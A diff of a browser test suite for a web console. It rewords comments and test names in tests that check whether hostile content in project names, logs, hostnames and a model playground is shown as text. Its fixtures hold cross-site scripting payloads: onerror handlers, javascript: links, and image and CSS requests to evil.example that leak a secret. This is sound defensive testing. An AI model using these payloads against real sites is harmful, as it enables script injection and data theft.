@@ -1,7 +1,6 @@
-// What others have written is text wherever the console shows it (cases C11
-// and C12 of /work/shared/reports.md): names, paths, logs, descriptions,
-// hostnames, what an agent says. Nothing of it runs, asks another origin for
-// anything, or becomes markup.
+// The console shows the words of others as text: names, paths, logs,
+// descriptions, hostnames, an agent's messages. None of them runs, requests
+// anything from another origin, or becomes markup.
 
 import assert from "node:assert/strict";
 import { after, test } from "node:test";
@@ -18,7 +17,7 @@ const { project, live } = deployments(hatch);
 const json = async (method, path, body, headers) => (await api(method, path, body, headers)).json();
 
 const EVIL = `<img src=https://evil.example/p onerror="self.hacked=1"><svg></p><style><a id="</style><img src=1 onerror=self.hacked=1>">`;
-/** Case C11 and C12, as a model or a page might write it. */
+/** Hostile markup, as a model or a page might write it. */
 const MARKDOWN = `${EVIL}
 ![x](https://evil.example/p?leak=SECRET) ![y][ref] ![z](data:image/svg+xml;base64,PHN2Zy8+)
 <link rel=prefetch href=https://evil.example/q> <p style="background:url(https://evil.example/r)">s</p>
@@ -29,7 +28,7 @@ script:self.hacked=1) [c](&#106;avascript:self.hacked=1) [d](vbscript:x) [zip](h
 [ref]: https://evil.example/s
 `;
 
-/** What no page may have of it; the answer of a page on which everything is shown as text. */
+/** The traces that a page must not have. This is the result of a page that shows everything as text. */
 const judged = (page) => page.evaluate(() => ({
   hacked: self.hacked ?? null,
   elements: [...document.querySelectorAll("main :is(img, script, style, link, form[action], object, embed, video, audio, base, meta)")].filter((element) => !element.closest(".editor, .uplot") && !element.src?.startsWith("data:image/webp")).map(({ outerHTML }) => outerHTML.slice(0, 120)),
@@ -68,7 +67,7 @@ async function fill() {
 
 const { id, version, deployment, agentApp } = await fill();
 
-/** Each place, and what tells that what is hostile has come to be shown there. */
+/** Each place, and the sign that the hostile text is shown there. */
 const PLACES = {
   "a project's name": ["#/", "onerror"],
   "an answer, its files, notes and model": [`#/build/${id}`, "SECRET"],
@@ -87,7 +86,7 @@ const PLACES = {
 };
 
 for (const [place, [hash, mark]] of Object.entries(PLACES)) {
-  test(`what is hostile in ${place} is text`, inBrowser, async () => {
+  test(`hostile markup in ${place} is shown as text`, inBrowser, async () => {
     const page = await open(hash);
     await page.locator("main").getByText(mark).first().waitFor();
     assert.deepEqual(await judged(page), CLEAN);
@@ -95,8 +94,8 @@ for (const [place, [hash, mark]] of Object.entries(PLACES)) {
   });
 }
 
-test("a machine's hostname and its containers' names are text", inBrowser, async () => {
-  // What the API takes of machines has no such characters; another one might.
+test("a machine's hostname and its containers' names are shown as text", inBrowser, async () => {
+  // The API accepts no such characters from machines, but another one might.
   const page = await open(`#/fleet/machines/${wallet}`, {
     prepare: (page) => page.route(/\/workers\/0x[^?]*$|\/containers/, async (route) => {
       const response = await route.fetch();
@@ -109,7 +108,7 @@ test("a machine's hostname and its containers' names are text", inBrowser, async
   await page.done();
 });
 
-test("what a model says in the playground is text", inBrowser, async () => {
+test("a model's answer in the playground is shown as text", inBrowser, async () => {
   const page = await open("#/models", {
     prepare: (page) => page.route("**/v1/chat/completions", (route) => route.fulfill({
       contentType: "text/event-stream",
